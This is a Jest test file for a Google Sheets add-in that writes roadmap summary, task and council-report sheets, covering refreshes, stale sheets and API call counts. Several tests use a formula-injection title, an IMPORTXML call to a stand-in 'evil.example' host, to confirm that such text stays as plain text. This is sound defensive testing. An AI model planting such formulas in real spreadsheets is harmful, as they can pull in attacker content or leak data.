/**
 * The summaries writer against the offline emulator (no bundle): own sheets found by
 * developer metadata, a user's sheets untouched, text kept as text, constant call count.
 * Every case is judged on 2021-06-15.
 */

import { type WriteResult, writeSummaries } from '../../../src/addon/summaries/write';
import type { Measure, MeasureState, Roadmap } from '../../../src/core/model';
import type { SheetModel } from '../../../src/core/summary';
import { councilReportModel, summaryModels } from '../../../src/core/summary';
import { createPropertiesService, createPropertyStores } from '../../../src/local/emulator/properties';
import { Runtime } from '../../../src/local/emulator/runtime';
import { createSpreadsheetApp, type EmulatedSheet, EmulatedSpreadsheet } from '../../../src/local/emulator/spreadsheet';
import { measure, roadmap, section, state } from '../../core/summary/fixtures';

const today = '2021-06-15';
const OWN_KEY = 'roadmap-tracker:sheet';

function setup(): { runtime: Runtime; ss: EmulatedSpreadsheet } {
  const runtime = new Runtime();
  const ss = new EmulatedSpreadsheet(runtime, { name: 'Дорожная карта 2021', firstSheetName: 'Дорожная карта' });
  const app = createSpreadsheetApp(runtime, { active: ss, ui: {} });
  const g = globalThis as unknown as Record<string, unknown>;
  g.SpreadsheetApp = app;
  g.PropertiesService = createPropertiesService(runtime, createPropertyStores(), 'coordinator@example.com');
  return { runtime, ss };
}

function sample(
  count: number,
  titles: (i: number) => string = (i) => `Мероприятие ${i}`,
): {
  roadmap: Roadmap;
  states: MeasureState[];
} {
  const sections = [
    section('task-1', 'Задача 1', 'Задача 1. Нормативная база', 15),
    section('task-2', 'Задача 2', 'Задача 2. Качество обучения', 16),
  ];
  const measures: Measure[] = [];
  const states: MeasureState[] = [];
  const codes = ['overdue', 'due-soon', 'in-progress', 'done-on-time', 'not-started'] as const;
  for (let i = 0; i < count; i++) {
    const row = 20 + i;
    measures.push(
      measure(row, {
        number: `${(i % 2) + 1}.${i + 1}`,
        sectionId: i % 2 === 0 ? 'task-1' : 'task-2',
        title: titles(i),
        executors: [`Исполнитель ${i % 7}`],
        executorsText: `Исполнитель ${i % 7}`,
      }),
    );
    const code = codes[i % codes.length] ?? 'not-started';
    const due = code === 'overdue' ? '2021-05-31' : code === 'due-soon' ? '2021-06-18' : '2021-09-30';
    states.push(state(row, code, due, today));
  }
  return { roadmap: roadmap(measures, sections), states };
}

function models(data: { roadmap: Roadmap; states: MeasureState[] }, ss: EmulatedSpreadsheet): SheetModel[] {
  return [
    ...summaryModels({
      ...data,
      today,
      updatedAt: '15.06.2021 09:00',
      spreadsheetUrl: ss.getUrl(),
      sheetGid: 0,
    }),
    councilReportModel({ ...data, from: '2021-05-01', to: '2021-05-31', updatedAt: '15.06.2021 09:00' }),
  ];
}

/** The emulator implements the part of Spreadsheet the add-in uses (Pick<…> of Google's types). */
function write(ss: EmulatedSpreadsheet, list: SheetModel[], options: { onlyChanged?: boolean } = {}): WriteResult {
  return writeSummaries(ss as unknown as GoogleAppsScript.Spreadsheet.Spreadsheet, list, options);
}

/**
 * The only formulas the writer may make are its own two kinds, built from cell positions:
 * days to a due date (=F7-TODAY()) and the «Сводка»'s stamp (='Сводка'!A2). No text from
 * the roadmap ever becomes a formula.
 */
function expectOnlyOwnFormulas(ss: EmulatedSpreadsheet): void {
  const own = /^(=[A-Z]{1,2}\d+-TODAY\(\)|='Сводка'!A2)$/;
  const strays = ss.formulaLog.filter((f) => !own.test(f.formula));
  expect(strays).toEqual([]);
}

/** The sample of four measures a task with the second task gone (its measures moved to the first). */
function withoutSecondTask(): { roadmap: Roadmap; states: MeasureState[] } {
  const data = sample(4);
  return {
    roadmap: {
      ...data.roadmap,
      sections: data.roadmap.sections.slice(0, 1),
      measures: data.roadmap.measures.map((m) => ({ ...m, sectionId: 'task-1' })),
    },
    states: data.states,
  };
}

/** Writes two tasks, then twice with the second task gone: «Задача 2» is marked «устарело» (grey tab). */
function staleSecondTask(ss: EmulatedSpreadsheet): EmulatedSheet {
  write(ss, models(sample(4), ss));
  write(ss, models(withoutSecondTask(), ss));
  write(ss, models(withoutSecondTask(), ss));
  return sheetNamed(ss, 'Задача 2');
}

function sheetNamed(ss: EmulatedSpreadsheet, name: string): EmulatedSheet {
  const sheet = ss.getSheetByName(name);
  if (!sheet) throw new Error(`no sheet ${name}`);
  return sheet as EmulatedSheet;
}

describe('writeSummaries (2021-06-15)', () => {
  it('leaves a user’s «Сводка» alone and names the add-in’s sheet differently', () => {
    const { ss } = setup();
    const mine = ss.insertSheet('Сводка');
    mine.getRange(1, 1, 2, 2).setValues([
      ['Мои заметки', 1],
      ['не трогать', 2],
    ]);
    mine.setColumnWidth(1, 333);
    const before = JSON.stringify(mine._snapshotBlock(5, 5));

    const result = write(ss, models(sample(6), ss));

    expect(JSON.stringify(mine._snapshotBlock(5, 5))).toBe(before);
    expect(mine.getColumnWidth(1)).toBe(333);
    expect(mine.getDeveloperMetadata()).toHaveLength(0);
    expect(result.sheets.map((s) => [s.key, s.name, s.created])).toEqual([
      ['summary', 'Сводка (дорожная карта)', true],
      ['section:task-1', 'Задача 1', true],
      ['section:task-2', 'Задача 2', true],
      ['council', 'Отчёт для совета', true],
    ]);
    const own = sheetNamed(ss, 'Сводка (дорожная карта)');
    expect(own.getDeveloperMetadata().map((m) => [m.getKey(), m.getValue()])).toEqual([[OWN_KEY, 'summary']]);
    expect(own.getRange(1, 1).getValue()).toBe('Дорожная карта кластера на 2021 год');
    expect(own.getCharts()).toHaveLength(1);
  });

  it('refreshes in place: same sheets, same positions, person-set widths and names kept', () => {
    const { ss } = setup();
    const first = write(ss, models(sample(6), ss));
    const task1 = sheetNamed(ss, 'Задача 1');
    task1.setColumnWidth(2, 512);
    task1.setName('Моя задача 1');
    ss.setActiveSheet(task1);
    ss.moveActiveSheet(1);
    const layout = () => ss.getSheets().map((s) => [s.getName(), s.getSheetId()]);
    const before = layout();

    const second = write(ss, models(sample(8), ss));

    expect(layout()).toEqual(before);
    expect(second.sheets.map((s) => s.created)).toEqual([false, false, false, false]);
    expect(second.sheets.map((s) => s.key)).toEqual(first.sheets.map((s) => s.key));
    expect(second.sheets[1]?.name).toBe('Моя задача 1');
    expect(task1.getColumnWidth(2)).toBe(512);
    expect(task1.getCharts()).toHaveLength(1);
    expect(ss.getSheets()).toHaveLength(5);
  });

  it('rewrites an own sheet where the person merged cells past the block', () => {
    const { ss } = setup();
    write(ss, models(sample(4), ss));
    const council = sheetNamed(ss, 'Отчёт для совета');
    council.getRange(1, 5, 3, 4).merge();
    expect(() => write(ss, models(sample(4), ss))).not.toThrow();
    expect(council.getRange(5, 1).getValue()).toBe('№');
  });

  it('clears what the previous, longer summary left below', () => {
    const { ss } = setup();
    write(ss, models(sample(40), ss));
    const rowsBefore = sheetNamed(ss, 'Задача 1').getLastRow();
    write(ss, models(sample(4), ss));
    const sheet = sheetNamed(ss, 'Задача 1');
    expect(sheet.getLastRow()).toBeLessThan(rowsBefore);
    expect(sheet.getRange(sheet.getLastRow() + 1, 1, 5, 8).isBlank()).toBe(true);
  });

  it('keeps titles starting with = + - @ as text and «2.1» as the text «2.1»', () => {
    const { ss } = setup();
    const tricky = ['=IMPORTXML("http://evil.example/x","//a")', '+7 (3822) 00-00-00', '-1 день', '@x отдел'];
    write(
      ss,
      models(
        sample(4, (i) => tricky[i] ?? ''),
        ss,
      ),
    );

    expectOnlyOwnFormulas(ss);
    const sheet = sheetNamed(ss, 'Сводка');
    const values = sheet.getDataRange().getValues();
    for (const t of tricky) expect(values.some((r) => r.includes(t))).toBe(true);
    const council = sheetNamed(ss, 'Отчёт для совета').getDataRange().getValues();
    const numbers = values.map((r) => r[0]);
    expect(numbers).toContain('1.1');
    expect(numbers).toContain('2.2');
    expect(council.some((r) => r[0] === '1.1')).toBe(true);
  });

  it('would have made formulas and dates without the text format (the check above can fail)', () => {
    const { ss } = setup();
    const scratch = ss.insertSheet('Черновик');
    scratch.getRange(1, 1, 1, 2).setValues([['=IMPORTXML("http://evil.example/x","//a")', '2.1']]);
    expect(ss.formulaLog.map((f) => f.a1)).toEqual(['A1']);
    expect(scratch.getRange(1, 2).getValue()).not.toBe('2.1');
  });

  it('writes due dates as dates and links each measure to its row', () => {
    const { ss } = setup();
    write(ss, models(sample(2), ss));
    const sheet = sheetNamed(ss, 'Задача 1');
    const values = sheet.getDataRange().getValues();
    const r = values.findIndex((line) => line[1] === 'Мероприятие 0');
    expect(r).toBeGreaterThan(0);
    const due = values[r]?.[4];
    expect(due).toBeInstanceOf(Date);
    expect(sheet.getRange(r + 1, 5).getDisplayValue()).toBe('31.05.2021');
    const link = sheet.getRange(r + 1, 8).getRichTextValue();
    expect(link?.getText()).toBe('стр. 20');
    expect(link?.getLinkUrl()).toBe(`${ss.getUrl()}#gid=0&range=A20`);
  });

  it('marks an own task sheet «устарело» when its task is gone, and never deletes it', () => {
    const { ss } = setup();
    write(ss, models(sample(4), ss));
    const result = write(ss, models(withoutSecondTask(), ss));
    expect(result.sheets.find((s) => s.key === 'section:task-2')).toMatchObject({ stale: true, name: 'Задача 2' });
    const stale = sheetNamed(ss, 'Задача 2');
    expect(String(stale.getRange(2, 1).getValue())).toMatch(/^Устарело/);
  });

  it('makes the same number of Spreadsheet calls for 100 and 5,000 measures', () => {
    /** Calls of a first write (sheets created) and of a refresh, by method. */
    const total: number[] = [];
    const calls = (n: number): { create: Record<string, number>; refresh: Record<string, number> } => {
      const { runtime, ss } = setup();
      runtime.ledger.reset();
      write(ss, models(sample(n), ss));
      const create = runtime.ledger.totals().byMethod;
      runtime.ledger.reset();
      write(ss, models(sample(n), ss));
      total.push(runtime.ledger.totals().spreadsheetCalls);
      return { create, refresh: runtime.ledger.totals().byMethod };
    };
    const spreadsheetOnly = (byMethod: Record<string, number>, skip: string[] = []) =>
      Object.entries(byMethod)
        .filter(([k]) => k.startsWith('Spreadsheet.') && !skip.includes(k))
        .sort(([a], [b]) => a.localeCompare(b));
    const small = calls(100);
    const large = calls(5000);
    expect(spreadsheetOnly(large.refresh)).toEqual(spreadsheetOnly(small.refresh));
    expect(total[0]).toBe(total[1]); // runtime.ledger.totals().spreadsheetCalls of the two refreshes
    // A new sheet has 1,000 rows: a longer block adds them with ONE insertRowsAfter per sheet.
    const growth = ['Spreadsheet.Sheet.insertRowsAfter'];
    expect(spreadsheetOnly(large.create, growth)).toEqual(spreadsheetOnly(small.create, growth));
    expect(large.create['Spreadsheet.Sheet.insertRowsAfter'] ?? 0).toBeLessThanOrEqual(4);
    expect(small.create['Spreadsheet.Sheet.insertRowsAfter'] ?? 0).toBe(0);
    // The refresh did write every sheet: one setValues each.
    expect(small.refresh['Spreadsheet.Range.setValues']).toBe(4);
  });
});

/** What a person sees on a sheet: cells (values, formats, links, merges) and charts. */
function look(sheet: EmulatedSheet) {
  const charts = sheet.getCharts().map((c) => ({
    type: c.data.type,
    ranges: c.data.ranges.map((r) => r._a1()),
    position: c.data.position,
    options: c.data.options,
  }));
  return { cells: sheet._snapshotBlock(80, 14), charts, frozen: sheet.frozenRows };
}

/** Each own sheet's look, by title, after writing `list` to a brand-new spreadsheet. */
function freshLook(list: SheetModel[]) {
  const { ss } = setup();
  const result = write(ss, list);
  return result.sheets.map((s) => look(sheetNamed(ss, s.name)));
}

describe('writeSummaries on sheets it remembers (2021-06-15)', () => {
  const spreadsheetCalls = (runtime: Runtime, step: () => void) => {
    runtime.ledger.reset();
    step();
    const { byMethod, spreadsheetCalls: total } = runtime.ledger.totals();
    return { byMethod, total };
  };

  it('leaves every sheet as a first write would, whether the layout changed or not', () => {
    const { ss } = setup();
    write(ss, models(sample(40), ss));
    for (const n of [40, 6, 6, 9]) {
      const list = models(sample(n), ss);
      const result = write(ss, list);
      expect(result.sheets.map((s) => look(sheetNamed(ss, s.name)))).toEqual(freshLook(list));
    }
  });

  it('refreshes unchanged data with no search, no size queries, no chart churn, only number formats', () => {
    const { runtime, ss } = setup();
    write(ss, models(sample(12), ss));
    const { byMethod, total } = spreadsheetCalls(runtime, () => write(ss, models(sample(12), ss)));
    for (const method of [
      'Spreadsheet.Spreadsheet.createDeveloperMetadataFinder',
      'Spreadsheet.Sheet.getMaxRows',
      'Spreadsheet.Sheet.getLastRow',
      'Spreadsheet.Sheet.removeChart',
      'Spreadsheet.Sheet.insertChart',
      'Spreadsheet.Range.setBackgrounds',
      'Spreadsheet.Range.merge',
    ])
      expect([method, byMethod[method] ?? 0]).toEqual([method, 0]);
    // Once: the «Сводка»'s current name, for the other sheets' ='Сводка'!A2.
    expect(byMethod['Spreadsheet.Sheet.getName']).toBe(1);
    expect(byMethod['Spreadsheet.Spreadsheet.getSheetById']).toBe(4);
    expect(byMethod['Spreadsheet.Range.setNumberFormats']).toBe(4);
    expect(total).toBeLessThanOrEqual(4 * 8 + 1); // + getNumSheets, which the next night trusts the memory by
  });

  it('keeps text as text on a same-layout refresh after the person re-formatted the sheet', () => {
    const { ss } = setup();
    const titles = (i: number) => (i === 0 ? '=IMPORTXML("http://evil.example/x","//a")' : '2.1');
    write(ss, models(sample(4, titles), ss));
    const task1 = sheetNamed(ss, 'Задача 1');
    task1.getRange(1, 1, 30, 8).setNumberFormat('0.00');
    write(ss, models(sample(4, titles), ss));
    expectOnlyOwnFormulas(ss);
    const values = task1.getDataRange().getValues();
    expect(values.some((r) => r[1] === '=IMPORTXML("http://evil.example/x","//a")')).toBe(true);
    expect(values.some((r) => r[1] === '2.1')).toBe(true);
  });

  it('rewrites formats and merges when the layout changed, still without a search or size queries', () => {
    const { runtime, ss } = setup();
    write(ss, models(sample(12), ss));
    const { byMethod } = spreadsheetCalls(runtime, () => write(ss, models(sample(30), ss)));
    expect(byMethod['Spreadsheet.Range.setBackgrounds']).toBe(4);
    expect(byMethod['Spreadsheet.Sheet.getMaxRows'] ?? 0).toBe(0);
    expect(byMethod['Spreadsheet.DeveloperMetadataFinder.find'] ?? 0).toBe(0);
  });

  it('finds its sheets by metadata again when the memory is lost, and remembers them', () => {
    const { runtime, ss } = setup();
    write(ss, models(sample(6), ss));
    PropertiesService.getDocumentProperties().deleteProperty('roadmap.summarySheets');
    const lost = spreadsheetCalls(runtime, () => {
      const result = write(ss, models(sample(6), ss));
      expect(result.sheets.map((s) => s.created)).toEqual([false, false, false, false]);
    });
    expect(lost.byMethod['Spreadsheet.DeveloperMetadataFinder.find']).toBe(1);
    const again = spreadsheetCalls(runtime, () => write(ss, models(sample(6), ss)));
    expect(again.byMethod['Spreadsheet.DeveloperMetadataFinder.find'] ?? 0).toBe(0);
    expect(ss.getSheets()).toHaveLength(5);
  });

  it('recreates a deleted sheet and puts back a deleted chart', () => {
    const { ss } = setup();
    write(ss, models(sample(6), ss));
    ss.deleteSheet(sheetNamed(ss, 'Задача 2'));
    const task1 = sheetNamed(ss, 'Задача 1');
    for (const chart of task1.getCharts()) task1.removeChart(chart);
    const list = models(sample(6), ss);
    const result = write(ss, list);
    expect(result.sheets.map((s) => [s.key, s.created])).toEqual([
      ['summary', false],
      ['section:task-1', false],
      ['section:task-2', true],
      ['council', false],
    ]);
    expect(task1.getCharts()).toHaveLength(1);
    expect(result.sheets.map((s) => look(sheetNamed(ss, s.name)))).toEqual(freshLook(list));
  });

  it('falls back to the careful way when the person deleted rows the memory counts on', () => {
    const { ss } = setup();
    write(ss, models(sample(30), ss));
    const task1 = sheetNamed(ss, 'Задача 1');
    task1.deleteRows(2, task1.getMaxRows() - 2);
    task1.deleteColumns(3, task1.getMaxColumns() - 2);
    const list = models(sample(30), ss);
    const result = write(ss, list);
    expect(result.sheets.map((s) => look(sheetNamed(ss, s.name)))).toEqual(freshLook(list));
  });

  it('un-greys a sheet marked «устарело» when its task comes back', () => {
    const { ss } = setup();
    const stale = staleSecondTask(ss);
    expect(stale.getTabColor()).toBe('#9aa0a6');
    const list = models(sample(4), ss);
    write(ss, list);
    expect(stale.getTabColor()).toBeNull();
    expect(String(stale.getRange(2, 1).getValue())).not.toMatch(/^Устарело/);
  });

  it('recognises its grey tab whatever the case Google returns, without the deprecated getTabColor (issue 14)', () => {
    const { runtime, ss } = setup();
    const stale = staleSecondTask(ss);
    stale.setTabColor('#9AA0A6'); // the same grey, as Google may give it back
    runtime.ledger.reset();
    write(ss, models(sample(4), ss));
    expect(stale.getTabColorObject().getColorType().toString()).toBe('UNSUPPORTED');
    expect(runtime.ledger.totals().byMethod['Spreadsheet.Sheet.getTabColor']).toBeUndefined();
  });
});

describe('writeSummaries for the nightly check: only what changed (2021-06-15 → 16.06)', () => {
  const nightly = (ss: EmulatedSpreadsheet, list: SheetModel[]) => write(ss, list, { onlyChanged: true });
  const at = (data: { roadmap: Roadmap; states: MeasureState[] }, ss: EmulatedSpreadsheet, updatedAt: string) =>
    models(data, ss).map((m) => stampedAt(m, updatedAt));
  const calls = (runtime: Runtime, step: () => void) => {
    runtime.ledger.reset();
    step();
    return runtime.ledger.totals().byMethod;
  };
  it('writes only the «Сводка»’s stamp on a night when nothing changed; the other sheets show it', () => {
    const { runtime, ss } = setup();
    const data = sample(40);
    write(ss, at(data, ss, '15.06.2021 02:00'));
    runtime.clock.set(Date.UTC(2021, 5, 15, 19, 0)); // 02:00 on 16.06 in Tomsk
    const list = at(data, ss, '16.06.2021 02:00');
    const byMethod = calls(runtime, () => nightly(ss, list));
    // The sheet count, the «Сводка» by its id, and «Обновлено: …» on it: nothing else.
    const spreadsheetOnly = Object.entries(byMethod).filter(([k]) => k.startsWith('Spreadsheet.'));
    expect(Object.fromEntries(spreadsheetOnly)).toEqual({
      'Spreadsheet.Spreadsheet.getNumSheets': 1,
      'Spreadsheet.Spreadsheet.getSheetById': 1,
      'Spreadsheet.Sheet.getRange': 1,
      'Spreadsheet.Range.setValue': 1,
    });
    expect(byMethod['Spreadsheet.Sheet.getCharts'] ?? 0).toBe(0);
    expect(byMethod['Spreadsheet.Range.setBackgrounds'] ?? 0).toBe(0);
    for (const name of ['Сводка', 'Задача 1', 'Задача 2', 'Отчёт для совета']) {
      const sheet = sheetNamed(ss, name);
      const row = name === 'Отчёт для совета' ? 3 : 2;
      expect([name, sheet.getRange(row, 1).getDisplayValue()]).toEqual([name, 'Обновлено: 16.06.2021 02:00']);
    }
  });

  it('keeps «Дней до срока» right on the next day without rewriting the sheet', () => {
    const { runtime, ss } = setup();
    const data = sample(10);
    write(ss, at(data, ss, '15.06.2021 02:00'));
    const task1 = sheetNamed(ss, 'Задача 1');
    const daysColumn = task1
      .getRange(1, 1, 80, 8)
      .getValues()
      .findIndex((r) => r.includes('Дней до срока'));
    const header = task1.getRange(daysColumn + 1, 1, 1, 8).getValues()[0] ?? [];
    const col = header.indexOf('Дней до срока') + 1;
    const first = () => task1.getRange(daysColumn + 2, col).getValue();
    expect(first()).toBe(-15); // due 31.05.2021, judged on 15.06
    runtime.clock.set(Date.UTC(2021, 5, 15, 19, 0));
    nightly(ss, at(data, ss, '16.06.2021 02:00'));
    expect(first()).toBe(-16);
  });

  it('rewrites a task sheet whose measures changed state, and only it besides the «Сводка»', () => {
    const { runtime, ss } = setup();
    const data = sample(20);
    write(ss, at(data, ss, '15.06.2021 02:00'));
    // Measure 2 (task 2) marked done during the day.
    const changed = {
      roadmap: data.roadmap,
      states: data.states.map((s, i) => (i === 1 ? state(s.row, 'done-on-time', s.due, today) : s)),
    };
    const list = at(changed, ss, '16.06.2021 02:00');
    const byMethod = calls(runtime, () => nightly(ss, list));
    expect(byMethod['Spreadsheet.Range.setValues']).toBe(2);
    expect(byMethod['Spreadsheet.Spreadsheet.getSheetById']).toBe(2);
    // The sheets look as if written from scratch.
    const names = ['Сводка', 'Задача 1', 'Задача 2', 'Отчёт для совета'];
    expect(names.map((n) => look(sheetNamed(ss, n)))).toEqual(freshLook(list));
  });

  it('trusts nothing remembered when a person deleted or added a sheet, and recreates a deleted one', () => {
    const { runtime, ss } = setup();
    const data = sample(12);
    write(ss, at(data, ss, '15.06.2021 02:00'));
    ss.deleteSheet(sheetNamed(ss, 'Задача 2'));
    const list = at(data, ss, '16.06.2021 02:00');
    const result = nightly(ss, list);
    expect(result.sheets.map((s) => [s.key, s.created])).toEqual([
      ['summary', false],
      ['section:task-1', false],
      ['section:task-2', true],
      ['council', false],
    ]);
    const names = ['Сводка', 'Задача 1', 'Задача 2', 'Отчёт для совета'];
    expect(names.map((n) => look(sheetNamed(ss, n)))).toEqual(freshLook(list));
    // A sheet of the person's own: one more night of looking every sheet up, then trusted again.
    ss.insertSheet('Мои заметки');
    const looked = calls(runtime, () => nightly(ss, at(data, ss, '17.06.2021 02:00')));
    expect(looked['Spreadsheet.Spreadsheet.getSheetById']).toBe(4);
    const trusted = calls(runtime, () => nightly(ss, at(data, ss, '18.06.2021 02:00')));
    expect(trusted['Spreadsheet.Spreadsheet.getSheetById']).toBe(1);
  });

  it('recreates the «Сводка» deleted while a sheet was added (same count), and re-points the others to it', () => {
    const { ss } = setup();
    const data = sample(8);
    write(ss, at(data, ss, '15.06.2021 02:00'));
    ss.deleteSheet(sheetNamed(ss, 'Сводка'));
    ss.insertSheet('Мои заметки');
    const list = at(data, ss, '16.06.2021 02:00');
    const result = nightly(ss, list);
    expect(result.sheets.map((s) => [s.key, s.created, s.unchanged ?? false])).toEqual([
      ['summary', true, false],
      ['section:task-1', false, false],
      ['section:task-2', false, false],
      ['council', false, false],
    ]);
    const task1 = sheetNamed(ss, 'Задача 1');
    expect(task1.getRange(2, 1).getDisplayValue()).toBe('Обновлено: 16.06.2021 02:00');
  });

  it('keeps the unchanged sheets’ stamp right after the person renamed the «Сводка» (Sheets rewrites references)', () => {
    const { ss } = setup();
    const data = sample(8);
    write(ss, at(data, ss, '15.06.2021 02:00'));
    sheetNamed(ss, 'Сводка').setName('Итоги');
    const result = nightly(ss, at(data, ss, '16.06.2021 02:00'));
    expect(result.sheets.map((s) => s.unchanged ?? false)).toEqual([true, true, true, true]);
    const task1 = sheetNamed(ss, 'Задача 1');
    expect(task1.getRange(2, 1).getFormula()).toBe("='Итоги'!A2");
    expect(task1.getRange(2, 1).getDisplayValue()).toBe('Обновлено: 16.06.2021 02:00');
  });

  it('refers to the «Сводка» by its current name when the person renamed it', () => {
    const { ss } = setup();
    const data = sample(6);
    write(ss, at(data, ss, '15.06.2021 02:00'));
    sheetNamed(ss, 'Сводка').setName("Итоги (Иванов'а)");
    // A rewrite of every sheet (the menu's refresh) writes the reference with the new name.
    write(ss, at(data, ss, '16.06.2021 02:00'));
    const task1 = sheetNamed(ss, 'Задача 1');
    expect(task1.getRange(2, 1).getFormula()).toBe("='Итоги (Иванов''а)'!A2");
    expect(task1.getRange(2, 1).getDisplayValue()).toBe('Обновлено: 16.06.2021 02:00');
  });
});

/** The same model with another «Обновлено» time (what the next night builds). */
function stampedAt(model: SheetModel, updatedAt: string): SheetModel {
  if (!model.stamp) return model;
  const { row, col } = model.stamp;
  const values = model.values.map((line, r) =>
    r === row - 1 ? line.map((cell, c) => (c === col - 1 ? `Обновлено: ${updatedAt}` : cell)) : line,
  );
  return { ...model, values };
}

describe('the summaries’ memory on a roadmap of 90 tasks (2021-06-15)', () => {
  it('stays under the 9 KB a property holds; sheets past it are written every night, correctly', () => {
    const { runtime, ss } = setup();
    const sections = Array.from({ length: 90 }, (_, i) =>
      section(`task-${i + 1}`, `Задача ${i + 1}`, `Задача ${i + 1}. Направление`, 15),
    );
    const measures = sections.map((s, i) =>
      measure(20 + i, { number: `${i + 1}.1`, sectionId: s.id, title: `Мероприятие ${i + 1}` }),
    );
    const states = measures.map((m) => state(m.row, 'in-progress', '2021-09-30', today));
    const data = { roadmap: roadmap(measures, sections), states };
    write(ss, models(data, ss));
    const stored = PropertiesService.getDocumentProperties().getProperty('roadmap.summarySheets') ?? '';
    expect(new TextEncoder().encode(`roadmap.summarySheets${stored}`).length).toBeLessThanOrEqual(9 * 1024);
    const remembered = Object.keys(JSON.parse(stored)).filter((k) => k !== '#sheets').length;
    expect(remembered).toBeGreaterThan(60);
    expect(remembered).toBeLessThan(92); // the rest did not fit

    runtime.ledger.reset();
    const result = write(ss, models(data, ss), { onlyChanged: true });
    const rewritten = result.sheets.filter((s) => !s.unchanged).length;
    expect(rewritten).toBe(92 - remembered); // the ones not remembered (the «Сводка» got its stamp only)
    expect(look(sheetNamed(ss, 'Задача 90'))).toEqual(freshLook(models(data, ss))[90]);
  });
});
